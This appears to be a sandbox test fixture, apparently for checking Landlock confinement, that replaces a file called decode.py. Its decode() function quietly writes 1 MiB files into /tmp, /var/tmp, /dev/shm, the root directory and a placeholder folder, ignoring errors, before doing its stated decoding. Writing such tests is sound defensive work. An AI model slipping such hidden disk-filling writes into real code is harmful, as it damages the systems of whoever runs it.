# technique: fills the disk through every folder that is open to all
# replaces: decode.py
# expect: nothing lost
# needs: landlock
# bites: file
import contextlib
from pathlib import Path


def decode(codes):
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/", "@HERE@"):
        for number in range(4):
            with contextlib.suppress(OSError):
                Path(folder, f"@MARK@-{number}").write_bytes(bytes(2**20))
    return "".join(map(chr, codes))
